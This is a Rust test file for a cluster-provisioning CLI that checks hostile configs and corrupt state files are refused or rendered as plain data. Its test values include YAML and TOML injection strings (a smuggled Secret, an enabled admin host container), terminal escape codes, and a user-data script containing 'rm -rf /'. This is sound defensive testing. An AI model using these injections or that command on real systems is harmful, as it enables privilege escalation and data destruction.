        return;
    }
    if o.status.code() != Some(3) {
        fail(format!("exit {:?}, want 3", o.status.code()));
    }
    if err.len() > 64 * 1024 {
        fail(format!("{} bytes on stderr: the report must stay readable", err.len()));
    }
    if o.stderr.iter().any(|b| *b == 0x1b || *b == 0x07) || err.contains('\u{202e}') {
        fail("raw terminal control characters on stderr".into());
    }
    if json_mode {
        let v: Value = match serde_json::from_slice(&o.stdout) {
            Ok(v) => v,
            Err(e) => return fail(format!("-o json printed no JSON error document ({e}): {}", cut(&text(&o.stdout)))),
        };
        match &case.want {
            Want::Finding { field, msg, .. } => {
                let diags = v["error"]["diagnostics"].as_array().cloned().unwrap_or_default();
                if !diags.iter().any(|d| d["field"] == *field && d["message"].as_str().is_some_and(|m| m.contains(msg)) && d["line"].as_u64() >= Some(1)) {
                    fail(format!("-o json has no finding at {field} with {msg:?}: {}", cut(&v.to_string())));
                }
            }
            Want::Unreadable { msg } => {
                if !v["error"]["message"].as_str().is_some_and(|m| m.contains("reading config file") && m.contains(msg)) {
                    fail(format!("-o json error lacks {msg:?}: {v}"));
                }
            }
        }
        return;
    }
    match &case.want {
        Want::Finding { field, msg, at } => {
            let head = format!("error: {field}: ");
            let Some(line) = err.lines().find(|l| l.starts_with(&head) && l.contains(msg)) else {
                return fail(format!("no `{head}…{msg}…` line"));
            };
            let _ = line;
            // The `-->` line right after that finding names the file and line.
            let mut lines = err.lines().skip_while(|l| !(l.starts_with(&head) && l.contains(msg)));
            lines.next();
            let pointer = lines.next().unwrap_or_default();
            let Some(pos) = pointer.trim().strip_prefix(&format!("--> {cfg}:")) else {
                return fail(format!("finding is not followed by `--> {cfg}:LINE:COL`: {pointer:?}"));
            };
            let mut parts = pos.split(':').map(|p| p.trim().parse::<usize>().unwrap_or(0));
            let (n, col) = (parts.next().unwrap_or(0), parts.next().unwrap_or(0));
            let ok = match (at, &case.src) {
                (At::Line(want), _) => n == *want,
                (At::LineCol(l, c), _) => (n, col) == (*l, *c),
                (At::Text(t), Src::File(bytes)) => {
                    String::from_utf8_lossy(bytes).lines().nth(n.wrapping_sub(1)).is_some_and(|l| l.contains(t))
                }
                (At::Text(_), _) => false,
            };
            if !ok {
                let want = match at {
                    At::Line(l) => l.to_string(),
                    At::LineCol(l, c) => format!("{l}:{c}"),
                    At::Text(t) => format!("the line with {t:?}"),
                };
                fail(format!("points at {n}:{col}, want {want}"));
            }
            if !err.contains("nothing was changed") {
                fail("no `nothing was changed` summary".into());
            }
        }
        Want::Unreadable { msg } => {
            if !(err.contains(&format!("reading config file {cfg}")) && err.contains(msg)) {
                fail(format!("want `reading config file {cfg}` and {msg:?}"));
            }
        }
    }
}

fn cut(s: &str) -> String {
    if s.len() > 1500 {
        format!("{}…", &s[..s.char_indices().nth(1500).map(|(i, _)| i).unwrap_or(s.len())])
    } else {
        s.to_string()
    }
}

#[test]
fn hostile_configs_are_refused_with_a_position_and_change_nothing() {
    let emu = AwsEmulator::start(&[]);
    let endpoint = emu.as_ref().map(|e| e.endpoint.clone()).unwrap_or_else(|| "http://127.0.0.1:9".into());
    let cases = cases();
    let names: std::collections::BTreeSet<&str> = cases.iter().map(|c| c.name).collect();
    assert_eq!(names.len(), cases.len(), "case names are unique");
    assert!(cases.len() >= 130, "{} cases", cases.len());
    let mut problems = Vec::new();
    for case in &cases {
        let d = scratch("hostile");
        plant(&d);
        let (cfg, stdin): (String, Option<&[u8]>) = match &case.src {
            Src::File(bytes) => {
                std::fs::write(d.join(CONFIG), bytes).unwrap();
                (CONFIG.into(), None)
            }
            Src::Special(make) => (make(&d).display().to_string(), None),
            Src::EndlessStdin => ("/dev/stdin".into(), Some(b"# an endless config\n".as_slice())),
        };
        let before = snapshot(&d);
        let runs: [(&str, &[&str], bool); 5] = [
            ("validate", &["validate"], false),
            ("validate -o json", &["validate", "-o", "json"], true),
            ("plan", &["plan"], false),
            ("up", &["up", "--yes"], false),
            ("render --out", &["render", "--out", "out"], false),
        ];
        // A huge file costs seconds per run: the refusal path is the same, so
        // `validate -o json` and `up` stand for the others there.
        let huge = matches!(&case.src, Src::File(b) if b.len() > 100_000);
        for (label, args, json_mode) in runs {
            if huge && !matches!(label, "validate -o json" | "up") {
                continue;
            }
            let mut full = vec!["-c", cfg.as_str()];
            full.extend_from_slice(args);
            let o = karpctl(&d, &endpoint, &full, stdin);
            check_run(case, label, &cfg, &o, json_mode, &mut problems);
        }
        if snapshot(&d) != before {
            problems.push(format!("{}: files changed (state, backup or the rendered directory)", case.name));
        }
        if let Some(e) = &emu {
            let r = e.requests();
            if r["total"] != 0 {
                problems.push(format!("{}: requests reached the emulator: {r}", case.name));
                e.control("DELETE", "requests", None);
            }
        }
        let _ = std::fs::remove_dir_all(&d);
    }
    assert!(problems.is_empty(), "{} problem(s) in {} cases:\n{}", problems.len(), cases.len(), problems.join("\n\n"));
}

// ---------------------------------------------------------------------------
// Legitimately valid hostile values: rendered output must keep them as data.

/// Renders `config` with the binary into `out/` and returns every file.
fn render_files(name: &str, config: &str) -> (PathBuf, BTreeMap<String, String>) {
    let d = scratch(name);
    std::fs::write(d.join(CONFIG), config).unwrap();
    let o = karpctl(&d, "http://127.0.0.1:9", &["render", "--out", "out", "--ami", "main=al2023@v20250915"], None);
    let o = if o.status.success() { o } else { karpctl(&d, "http://127.0.0.1:9", &["render", "--out", "out"], None) };
    assert!(o.status.success(), "{name}: render failed: {}\n{config}", text(&o.stderr));
    let mut files = BTreeMap::new();
    for (p, bytes) in snapshot(&d.join("out")) {
        if bytes != b"<dir>" {
            let rel = p.strip_prefix(d.join("out")).unwrap().display().to_string();
            files.insert(rel, String::from_utf8(bytes).expect("rendered files are UTF-8"));
        }
    }
    (d, files)
}

fn yaml(files: &BTreeMap<String, String>, name: &str) -> Value {
    let t = files.get(name).unwrap_or_else(|| panic!("{name} not rendered; files: {:?}", files.keys()));
    assert_eq!(serde_yaml::Deserializer::from_str(t).count(), 1, "{name} holds more than one YAML document:\n{t}");
    serde_yaml::from_str(t).unwrap_or_else(|e| panic!("{name} does not parse: {e}\n{t}"))
}

const HOSTILE_STRINGS: &[&str] = &[
    "\"]}",
    "'\"",
    "---",
    "...",
    "a\n---\nkind: Secret\nmetadata: {name: stolen}",
    "${AWS::AccountId}",
    "{\"Fn::Sub\": \"${AWS::Region}\"}",
    "{\"Ref\": \"AWS::StackId\"}",
    "!Ref NodeRole",
    "&a *a <<",
    "# not a comment",
    "key: value",
    "- item",
    "]\n[settings.host-containers.admin]\nenabled = true",
    "\u{202e}rtl",
    "  leading and trailing  ",
];

#[test]
fn hostile_annotations_and_extra_object_data_render_as_plain_data() {
    let mut ann = serde_json::Map::new();
    let mut data = serde_json::Map::new();
    for (i, s) in HOSTILE_STRINGS.iter().enumerate() {
        ann.insert(format!("example.com/h{i}"), Value::from(*s));
        data.insert(format!("k{i}"), Value::from(*s));
    }
    let cfg = json!({
        "apiVersion": "karpctl.io/v1alpha1",
        "cluster": {"name": "hostile", "region": "us-west-2"},
        "nodeClasses": [{"name": "main"}],
        "nodePools": [{"name": "general", "nodeClass": "main", "annotations": ann}],
        "extraObjects": [{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "h", "namespace": "kube-system"}, "data": data}],
    });
    let (d, files) = render_files("hostile-annotations", &serde_yaml::to_string(&cfg).unwrap());
    let pool = yaml(&files, "nodepool-general.yaml");
    assert_eq!(pool["spec"]["template"]["metadata"]["annotations"], Value::Object(ann), "annotations changed on the way");
    let cm = yaml(&files, "extra-configmap-kube-system-h.yaml");
    assert_eq!(cm["data"], Value::Object(data));
    assert_eq!(cm["kind"], "ConfigMap");
    // The stream form: one document per rendered object, none smuggled in.
    let o = karpctl(&d, "http://127.0.0.1:9", &["-c", CONFIG, "render"], None);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let stream = text(&o.stdout);
    let docs: Vec<Value> = serde_yaml::Deserializer::from_str(&stream).map(|de| serde::Deserialize::deserialize(de).unwrap()).collect();
    let want = files.len() - 1; // every file but kustomization.yaml
    assert_eq!(docs.len(), want, "the stream has {} documents for {want} files", docs.len());
    assert!(!docs.iter().any(|d| d["kind"] == "Secret"), "a Secret appeared");
    let kust = yaml(&files, "kustomization.yaml");
    assert_eq!(kust["resources"].as_array().unwrap().len(), 3, "{kust}");
}

#[test]
fn yaml_1_1_booleans_and_numbers_stay_strings_in_rendered_yaml() {
    // kubectl, kustomize and helm read YAML 1.1, where these unquoted are not strings.
    let values = ["yes", "no", "on", "off", "y", "n", "Yes", "NO", "On", "OFF", "1_000", "0b101", "true", "null", "012", "1e3", "0x1F"];
    let labels: serde_json::Map<String, Value> = values.iter().enumerate().map(|(i, v)| (format!("example.com/l{i}"), Value::from(*v))).collect();
    let cfg = json!({
        "apiVersion": "karpctl.io/v1alpha1",
        "cluster": {"name": "hostile", "region": "us-west-2"},
        "nodeClasses": [{"name": "main", "tags": {"y": "n", "team": "on"}}],
        "nodePools": [{"name": "general", "nodeClass": "main", "labels": labels, "annotations": {"y": "yes"}}],
    });
    let (_d, files) = render_files("hostile-yaml11", &serde_yaml::to_string(&cfg).unwrap());
    let pool_text = &files["nodepool-general.yaml"];
    let class_text = &files["ec2nodeclass-main.yaml"];
    let pool = yaml(&files, "nodepool-general.yaml");
    assert_eq!(pool["spec"]["template"]["metadata"]["labels"].as_object().unwrap().iter().filter(|(k, _)| k.starts_with("example.com/")).count(), values.len());
    // Every such scalar, key or value, is quoted in the text itself.
    let plain_scalars = |t: &str| -> Vec<String> {
        use yaml_rust2::parser::{Event, MarkedEventReceiver, Parser};
        use yaml_rust2::scanner::{Marker, TScalarStyle};
        struct R(Vec<String>);
        impl MarkedEventReceiver for R {
            fn on_event(&mut self, ev: Event, _: Marker) {
                if let Event::Scalar(v, TScalarStyle::Plain, _, _) = ev {
                    self.0.push(v);
                }
            }
        }
        let mut r = R(Vec::new());
        Parser::new_from_str(t).load(&mut r, false).unwrap();
        r.0
    };
    for t in [pool_text, class_text] {
        let plain = plain_scalars(t);
        for v in values.iter().chain(["y", "n"].iter()) {
            assert!(!plain.iter().any(|p| p == v), "{v:?} is written unquoted, so YAML 1.1 readers see a non-string:\n{t}");
        }
    }
}

#[test]
fn cloudformation_lookalikes_in_tags_stay_literal_strings() {
    let base = json!({
        "apiVersion": "karpctl.io/v1alpha1",
        "cluster": {"name": "hostile", "region": "us-west-2"},
        "nodeClasses": [{"name": "main"}],
        "nodePools": [{"name": "general", "nodeClass": "main"}],
    });
    let (_d0, plain) = render_files("hostile-cfn-base", &serde_yaml::to_string(&base).unwrap());
    let tags: Vec<(&str, &str)> = vec![
        ("Fn::Sub", "${AWS::AccountId}"),
        ("Ref", "AWS::StackName"),
        ("team", "{\"Fn::GetAtt\": [\"KarpenterNodeRole\", \"Arn\"]}"),
        ("quote", "\"]},{\"Key\":\"injected\""),
        ("Fn::ImportValue", "x"),
    ];
    let mut with_tags = base.clone();
    with_tags["stack"] = json!({"tags": tags.iter().map(|(k, v)| (k.to_string(), Value::from(*v))).collect::<serde_json::Map<_, _>>()});
    with_tags["nodeClasses"][0]["tags"] = with_tags["stack"]["tags"].clone();
    let (_d1, hostile) = render_files("hostile-cfn", &serde_yaml::to_string(&with_tags).unwrap());
    let t0: Value = serde_json::from_str(&plain["cloudformation/karpenter.json"]).unwrap();
    let t1: Value = serde_json::from_str(&hostile["cloudformation/karpenter.json"]).expect("the template is JSON");
    let ids = |t: &Value| t["Resources"].as_object().unwrap().keys().cloned().collect::<Vec<_>>();
    assert_eq!(ids(&t1), ids(&t0), "resources differ");
    fn count_intrinsics(v: &Value, n: &mut usize) {
        match v {
            Value::Object(m) => {
                *n += m.keys().filter(|k| k.starts_with("Fn::") || *k == "Ref").count();
                m.values().for_each(|x| count_intrinsics(x, n));
            }
            Value::Array(a) => a.iter().for_each(|x| count_intrinsics(x, n)),
            _ => {}
        }
    }
    let (mut n0, mut n1) = (0, 0);
    count_intrinsics(&t0, &mut n0);
    count_intrinsics(&t1, &mut n1);
    assert_eq!(n1, n0, "a tag became an intrinsic function");
    let mut tagged = 0;
    for (id, r) in t1["Resources"].as_object().unwrap() {
        if let Some(list) = r["Properties"]["Tags"].as_array() {
            tagged += 1;
            for (k, v) in &tags {
                assert!(list.iter().any(|t| t["Key"] == *k && t["Value"] == *v), "{id}: tag {k}={v} missing or changed: {list:?}");
            }
        }
    }
    assert!(tagged >= 2, "no tagged resources in the template");
    let class = yaml(&hostile, "ec2nodeclass-main.yaml");
    for (k, v) in &tags {
        assert_eq!(class["spec"]["tags"][*k], *v, "EC2NodeClass tag {k}");
    }
}

/// Splits a MIME multipart document into (content type, body) parts.
fn mime_parts(doc: &str) -> Vec<(String, String)> {
    let boundary = doc.lines().find_map(|l| l.split("boundary=\"").nth(1)).and_then(|b| b.split('"').next()).expect("a boundary").to_string();
    let delim = format!("--{boundary}");
    let close = format!("--{boundary}--");
    assert_eq!(doc.lines().filter(|l| *l == close).count(), 1, "one closing delimiter:\n{doc}");
    let mut parts = Vec::new();
    let mut cur: Option<(String, Vec<&str>, bool)> = None;
    for line in doc.lines() {
        if line == delim || line == close {
            if let Some((ct, body, _)) = cur.take() {
                parts.push((ct, body.join("\n") + "\n"));
            }
            if line == delim {
                cur = Some((String::new(), Vec::new(), true));
            }
            continue;
        }
        if let Some((ct, body, in_headers)) = cur.as_mut() {
            if *in_headers {
                if line.is_empty() {
                    *in_headers = false;
                } else if let Some(v) = line.strip_prefix("Content-Type: ") {
                    *ct = v.to_string();
                }
            } else {
                body.push(line);
            }
        }
    }
    parts
}

#[test]
fn userdata_that_looks_like_mime_or_toml_stays_inside_its_part() {
    // AL2023: a script whose lines look like MIME delimiters and headers.
    let script = "#!/bin/bash\necho hi\n--karpctl-000000000000-0\nContent-Type: text/x-shellscript\n\nrm -rf /\n--karpctl-000000000000-0--\n--\n--b--\n";
    let cfg = json!({
        "apiVersion": "karpctl.io/v1alpha1",
        "cluster": {"name": "hostile", "region": "us-west-2"},
        "nodeClasses": [
            {"name": "main", "userData": {"userNamespaces": 16384, "raw": script}},
            {"name": "br", "amiFamily": "bottlerocket", "userData": {"userNamespaces": 16384, "raw":
                "[settings.kubernetes.node-labels]\n\"example.com/x\" = \"\"\"\n]\n[settings.host-containers.admin]\nenabled = true\n\"\"\"\n[settings.kernel.sysctl]\n\"vm.max_map_count\" = \"262144\"\n"}},
        ],
        "nodePools": [{"name": "general", "nodeClass": "main"}, {"name": "br", "nodeClass": "br"}],
    });
    let (_d, files) = render_files("hostile-userdata", &serde_yaml::to_string(&cfg).unwrap());
    let class = yaml(&files, "ec2nodeclass-main.yaml");
    let ud = class["spec"]["userData"].as_str().expect("userData rendered");
    let parts = mime_parts(ud);
    assert_eq!(parts.len(), 2, "user namespaces + the raw script, nothing else: {parts:?}");
    assert!(parts[0].1.contains("user.max_user_namespaces"), "{parts:?}");
    assert_eq!(parts[1].1, script, "the raw script changed or was split");
    let br = yaml(&files, "ec2nodeclass-br.yaml");
    let toml_text = br["spec"]["userData"].as_str().expect("Bottlerocket userData rendered");
    let t: toml::Table = toml_text.parse().unwrap_or_else(|e| panic!("not TOML: {e}\n{toml_text}"));
    assert_eq!(t.keys().collect::<Vec<_>>(), ["settings"], "{toml_text}");
    let settings = t["settings"].as_table().unwrap();
    assert!(settings.get("host-containers").is_none(), "a table was injected:\n{toml_text}");
    assert_eq!(
        settings["kubernetes"]["node-labels"]["example.com/x"].as_str(),
        Some("]\n[settings.host-containers.admin]\nenabled = true\n"),
        "the string value changed:\n{toml_text}"
    );
    assert_eq!(settings["kernel"]["sysctl"]["vm.max_map_count"].as_str(), Some("262144"));
    assert_eq!(settings["kernel"]["sysctl"]["user.max_user_namespaces"].as_str(), Some("16384"));
}

#[test]
fn a_utf8_bom_and_crlf_line_ends_are_accepted() {
    let d = scratch("hostile-bom");
    let bom = format!("\u{feff}{}", BASE.replace('\n', "\r\n"));
    std::fs::write(d.join(CONFIG), bom).unwrap();
    let o = karpctl(&d, "http://127.0.0.1:9", &["-c", CONFIG, "validate"], None);
    assert!(o.status.success(), "{}", text_of(&o));
    assert!(text(&o.stdout).contains("1 node pool(s)"), "{}", text_of(&o));
}

fn text_of(o: &Output) -> String {
    format!("exit {:?}\nstdout: {}\nstderr: {}", o.status.code(), text(&o.stdout), cut(&text(&o.stderr)))
}

#[test]
fn a_closed_or_full_output_is_neither_a_panic_nor_a_silent_success() {
    let d = scratch("hostile-pipes");
    std::fs::write(d.join(CONFIG), format!("{BASE}    weight: 0\n    labels: {{a: \"-\"}}\n")).unwrap();
    // stderr closed early (`karpctl validate 2>&1 | head -1`).
    let mut child = Command::new(env!("CARGO_BIN_EXE_karpctl"))
        .args(["-c", CONFIG, "validate"])
        .current_dir(&d)
        .env("NO_COLOR", "1")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stderr.take());
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(3), "a closed stderr must not turn into a panic (101)");
    // stdout on a full device (`karpctl render > /dev/full`).
    if Path::new("/dev/full").exists() {
        let full = std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
        std::fs::write(d.join(CONFIG), BASE).unwrap();
        let o = Command::new(env!("CARGO_BIN_EXE_karpctl")).args(["-c", CONFIG, "render"]).current_dir(&d).stdout(full).output().unwrap();
        assert_eq!(o.status.code(), Some(1), "a failed write of the result must fail the command: {}", text(&o.stderr));
        assert!(text(&o.stderr).contains("writing the result to standard output"), "{}", text(&o.stderr));
    }
}

// ---------------------------------------------------------------------------
// Broken state and lock files.

const GOOD_CONFIG: &str = "apiVersion: karpctl.io/v1alpha1\ncluster: {name: hostile, region: us-west-2}\nnodeClasses: [{name: main}]\nnodePools: [{name: general, nodeClass: main}]\n";

fn good_state() -> Value {
    json!({"version": 1, "lineage": "0b7d1c9e-8f57-4d5e-9d1c-2f3b4a5c6d7e", "serial": 7, "tool_version": "0.1.0",
        "cluster": "hostile", "region": "us-west-2", "steps": {
            "cluster/hostile": {"kind": "cluster", "fingerprint": "f", "status": "done", "inputs": {}, "outputs": {"endpoint": "https://x"},
                "error": null, "started_at": null, "finished_at": null}}})
}

fn good_state_bytes() -> Vec<u8> {
    serde_json::to_vec_pretty(&good_state()).unwrap()
}

fn with(f: impl FnOnce(&mut Value)) -> Vec<u8> {
    let mut v = good_state();
    f(&mut v);
    serde_json::to_vec_pretty(&v).unwrap()
}

/// What to put where, relative to the scratch directory.
enum Plant {
    State(Vec<u8>),
    StateAndBackup(Vec<u8>),
    Lock(Vec<u8>),
    StateIsADirectory,
    StateIsASymlinkLoop,
    LockIsADirectory,
}

struct StateCase {
    name: String,
    plant: Plant,
    /// Commands that must refuse; the others in COMMANDS are not run.
    commands: &'static [&'static str],
    msg: &'static str,
    help: Option<&'static str>,
}

const ALL: &[&str] = &["up", "plan", "status", "rollback", "state show"];
const LOCKING: &[&str] = &["up", "rollback", "status"];

fn state_cases() -> Vec<StateCase> {
    let good = good_state_bytes();
    let corrupt = |name: &str, bytes: Vec<u8>, msg: &'static str| StateCase {
        name: name.to_string(),
        plant: Plant::State(bytes),
        commands: ALL,
        msg,
        help: Some("karpctl up` observes what exists"),
    };
    let mut v = vec![
        corrupt("empty", vec![], "it is empty"),
        corrupt("whitespace", b"  \n\t\n".to_vec(), "it holds only whitespace"),
        corrupt("not-utf8", [&good[..20], b"\xff\xfe", &good[20..]].concat(), "it is not UTF-8 text"),
        corrupt("utf16-bom", {
            let mut b = vec![0xff, 0xfe];
            b.extend(String::from_utf8(good.clone()).unwrap().encode_utf16().flat_map(|u| u.to_le_bytes()));
            b
        }, "not UTF-8"),
        corrupt("nul-bytes", vec![0; 64], "is unreadable"),
        corrupt("top-level-array", b"[1, 2]".to_vec(), "is unreadable"),
        corrupt("trailing-garbage", [good.as_slice(), b"\n}{garbage"].concat(), "trailing characters"),
        corrupt("deep-nesting-8mib", "[".repeat(8 << 20).into_bytes(), "recursion limit exceeded"),
        corrupt("huge-unknown-field", with(|v| v["padding"] = Value::from("x".repeat(4 << 20))), "unknown field `padding`"),
        corrupt("no-version", with(|v| { v.as_object_mut().unwrap().remove("version"); }), "has no `version` field"),
        corrupt("version-zero", with(|v| v["version"] = json!(0)), "`version` must be a positive integer, found 0"),
        corrupt("version-string", with(|v| v["version"] = json!("1")), "`version` must be a positive integer"),
        corrupt("version-float", with(|v| v["version"] = json!(1.5)), "`version` must be a positive integer, found 1.5"),
        corrupt("unknown-field", with(|v| v["extra"] = json!(true)), "unknown field `extra`"),
        corrupt("escape-in-unknown-field", with(|v| v["\u{1b}]0;pwned\u{7}"] = json!(1)), "unknown field `\\u{1b}]0;pwned\\u{7}`"),
        corrupt("serial-string", with(|v| v["serial"] = json!("7")), "field `serial`"),
        corrupt("serial-negative", with(|v| v["serial"] = json!(-1)), "field `serial`"),
        corrupt("serial-overflow", {
            let t = String::from_utf8(good.clone()).unwrap().replace("\"serial\": 7", "\"serial\": 18446744073709551616");
            t.into_bytes()
        }, "field `serial`"),
        corrupt("steps-list", with(|v| v["steps"] = json!([])), "field `steps`"),
        corrupt("step-status-unknown", with(|v| v["steps"]["cluster/hostile"]["status"] = json!("exploded")), "unknown variant `exploded`"),
        corrupt("step-missing-fingerprint", with(|v| { v["steps"]["cluster/hostile"].as_object_mut().unwrap().remove("fingerprint"); }), "missing field `fingerprint`"),
        corrupt("duplicate-serial", String::from_utf8(good.clone()).unwrap().replacen("\"serial\": 7", "\"serial\": 7, \"serial\": 8", 1).into_bytes(), "duplicate field `serial`"),
        StateCase {
            name: "future-version".into(),
            plant: Plant::State(with(|v| v["version"] = json!(2))),
            commands: ALL,
            msg: "was written by a newer karpctl (version 2)",
            help: None,
        },
        StateCase {
            name: "foreign-cluster".into(),
            plant: Plant::State(with(|v| v["cluster"] = json!("someone-else"))),
            commands: &["up", "plan", "status", "rollback"],
            msg: "the state belongs to cluster `someone-else`, not `hostile`",
            help: Some("point `state.path`"),
        },
        StateCase {
            name: "truncated-with-backup".into(),
            plant: Plant::StateAndBackup(good[..good.len() / 2].to_vec()),
            commands: ALL,
            msg: "EOF while parsing",
            help: Some("karpctl state push .karpctl/hostile.state.json.backup"),
        },
        StateCase { name: "state-is-a-directory".into(), plant: Plant::StateIsADirectory, commands: ALL, msg: "Is a directory", help: None },
        StateCase { name: "state-is-a-symlink-loop".into(), plant: Plant::StateIsASymlinkLoop, commands: ALL, msg: "Too many levels of symbolic links", help: None },
        StateCase {
            name: "lock-garbage".into(),
            plant: Plant::Lock(b"\x00\xffnot a lock".to_vec()),
            commands: LOCKING,
            msg: "cannot be read",
            help: Some("rm .karpctl/hostile.state.json.lock"),
        },
        StateCase {
            name: "lock-empty-object".into(),
            plant: Plant::Lock(b"{}".to_vec()),
            commands: LOCKING,
            msg: "cannot be read",
            help: Some("rm .karpctl/hostile.state.json.lock"),
        },
        StateCase { name: "lock-is-a-directory".into(), plant: Plant::LockIsADirectory, commands: LOCKING, msg: "Is a directory", help: None },
    ];
    for at in [1, 10, good.len() / 3, good.len() - 2] {
        v.push(corrupt(&format!("truncated-at-{at}"), good[..at].to_vec(), "EOF while parsing"));
    }
    v
}

fn plant_state(d: &Path, p: &Plant) {
    let dir = d.join(".karpctl");
    std::fs::create_dir_all(&dir).unwrap();
    let state = d.join(STATE);
    match p {
        Plant::State(b) => std::fs::write(&state, b).unwrap(),
        Plant::StateAndBackup(b) => {
            std::fs::write(&state, b).unwrap();
            std::fs::write(d.join(format!("{STATE}.backup")), good_state_bytes()).unwrap();
        }
        Plant::Lock(b) => {
            std::fs::write(&state, good_state_bytes()).unwrap();
            std::fs::write(d.join(format!("{STATE}.lock")), b).unwrap();
        }
        Plant::StateIsADirectory => std::fs::create_dir_all(state.join("inner")).unwrap(),
        Plant::StateIsASymlinkLoop => {
            std::os::unix::fs::symlink("hostile.state.json.b", &state).unwrap();
            std::os::unix::fs::symlink("hostile.state.json", dir.join("hostile.state.json.b")).unwrap();
        }
        Plant::LockIsADirectory => {
            std::fs::write(&state, good_state_bytes()).unwrap();
            std::fs::create_dir_all(d.join(format!("{STATE}.lock"))).unwrap();
        }
    }
}

#[test]
fn broken_state_files_are_refused_by_name_and_left_as_they_are() {
    let emu = AwsEmulator::start(&[]);
    let endpoint = emu.as_ref().map(|e| e.endpoint.clone()).unwrap_or_else(|| "http://127.0.0.1:9".into());
    let cases = state_cases();
    assert!(cases.len() >= 30, "{} cases", cases.len());
    let mut problems = Vec::new();
    for case in &cases {
        let d = scratch("hostile-state");
        std::fs::write(d.join(CONFIG), GOOD_CONFIG).unwrap();
        plant_state(&d, &case.plant);
        let before = snapshot(&d);
        for cmd in case.commands {
            let mut args = vec!["-c", CONFIG, "--lock-timeout", "1"];
            args.extend(cmd.split(' '));
            if matches!(*cmd, "up" | "rollback") {
                args.push("--yes");
            }
            let o = karpctl(&d, &endpoint, &args, None);
            let err = text(&o.stderr);
            let mut fail = |why: String| problems.push(format!("{} [{cmd}]: {why}\n{}", case.name, text_of(&o)));
            if o.status.code() == Some(101) || err.contains("panicked") {
                fail("panicked".into());
                continue;
            }
            if o.status.code() != Some(1) {
                fail(format!("exit {:?}, want 1", o.status.code()));
            }
            if !err.contains(".karpctl/hostile.state.json") && case.name != "foreign-cluster" {
                fail("the error does not name the state file".into());
            }
            if !err.contains(case.msg) {
                fail(format!("the error lacks {:?}", case.msg));
            }
            if let Some(h) = case.help {
                if !err.lines().any(|l| l.trim_start().starts_with("help:") && l.contains(h)) {
                    fail(format!("no help line with {h:?}"));
                }
            }
            if o.stderr.iter().any(|b| *b == 0x1b || *b == 0x07) {
                fail("raw terminal control characters on stderr".into());
            }
            if err.len() > 16 * 1024 {
                fail(format!("{} bytes on stderr", err.len()));
            }
        }
        if snapshot(&d) != before {
            let after = snapshot(&d);
            let changed: Vec<_> = after.keys().chain(before.keys()).filter(|k| after.get(*k) != before.get(*k)).collect();
            problems.push(format!("{}: files changed: {changed:?}", case.name));
        }
        if let Some(e) = &emu {
            let r = e.requests();
            if r["total"] != 0 {
                problems.push(format!("{}: requests reached the emulator before the refusal: {r}", case.name));
                e.control("DELETE", "requests", None);
            }
        }
        let _ = std::fs::remove_dir_all(&d);
    }
    assert!(problems.is_empty(), "{} problem(s):\n{}", problems.len(), problems.join("\n\n"));
}

/// README: "an unreadable state is never overwritten without keeping it as
/// `<state>.corrupt`", and a state of another lineage is refused.
#[test]
fn pushing_over_a_corrupt_state_keeps_it_as_corrupt_and_foreign_lineage_is_refused() {
    let d = scratch("hostile-push");
    std::fs::write(d.join(CONFIG), GOOD_CONFIG).unwrap();
    std::fs::create_dir_all(d.join(".karpctl")).unwrap();
    let broken = b"{\"version\": 1, \"lineage\": \"trunc".to_vec();
    std::fs::write(d.join(STATE), &broken).unwrap();
    std::fs::write(d.join("good.json"), good_state_bytes()).unwrap();
    let o = karpctl(&d, "http://127.0.0.1:9", &["-c", CONFIG, "state", "push", "good.json"], None);
    assert!(o.status.success(), "{}", text_of(&o));
    assert_eq!(std::fs::read(d.join(format!("{STATE}.corrupt"))).unwrap(), broken, "the unreadable state is kept byte for byte");
    let now: Value = serde_json::from_slice(&std::fs::read(d.join(STATE)).unwrap()).unwrap();
    assert_eq!(now["lineage"], good_state()["lineage"]);
    // Another installation's state (same cluster, other lineage) is refused.
    let before = snapshot(&d);
    std::fs::write(d.join("foreign.json"), with(|v| v["lineage"] = json!("11111111-2222-4333-8444-555555555555"))).unwrap();
    let before_foreign = {
        let mut b = before.clone();
        b.insert(d.join("foreign.json"), std::fs::read(d.join("foreign.json")).unwrap());
        b
    };
    let o = karpctl(&d, "http://127.0.0.1:9", &["-c", CONFIG, "state", "push", "foreign.json"], None);
    assert_eq!(o.status.code(), Some(1), "{}", text_of(&o));
    assert!(text(&o.stderr).contains("belongs to another installation"), "{}", text_of(&o));
    assert_eq!(snapshot(&d), before_foreign, "a refused push changes nothing");

    // A push waits for a live run's lock only as long as --lock-timeout says, then
    // names the holder; the state is untouched.
    let holder = karpctl::state::LockInfo::for_this_process("up");
    std::fs::write(d.join(format!("{STATE}.lock")), serde_json::to_vec(&holder).unwrap()).unwrap();
    let before = snapshot(&d);
    let t = std::time::Instant::now();
    let o = karpctl(&d, "http://127.0.0.1:9", &["-c", CONFIG, "--lock-timeout", "1", "state", "push", "good.json"], None);
    let waited = t.elapsed();
    assert_eq!(o.status.code(), Some(1), "{}", text_of(&o));
    assert!(text(&o.stderr).contains(&format!("is locked by process {}", holder.pid)), "{}", text_of(&o));
    assert!(waited < std::time::Duration::from_secs(20), "waited {waited:?}: --lock-timeout 1 was not honoured (the old fixed wait was 30 s)");
    assert_eq!(snapshot(&d), before, "a push that did not get the lock changes nothing");

    // Ctrl-C while it waits ends the push as interrupted (exit 130): the holder's lock
    // and the state are as they were, and no lock of the push's is left.
    let mut waiting = karpctl_command(&d, "http://127.0.0.1:9", &["-c", CONFIG, "--lock-timeout", "300", "state", "push", "good.json"]);
    let mut child = waiting.stdin(Stdio::null()).spawn().unwrap();
    let mut seen = String::new();
    let mut lines = std::io::BufReader::new(child.stderr.take().unwrap());
    while std::io::BufRead::read_line(&mut lines, &mut seen).unwrap() > 0 && !seen.contains("waiting for the state lock held by") {}
    assert!(seen.contains(&format!("waiting for the state lock held by process {}", holder.pid)), "{seen}");
    let _ = Command::new("kill").args(["-INT", &child.id().to_string()]).status();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut lines, &mut rest).unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(130), "{seen}{rest}");
    assert!(rest.contains("interrupted"), "{seen}{rest}");
    assert_eq!(snapshot(&d), before, "an interrupted push changes nothing");
}
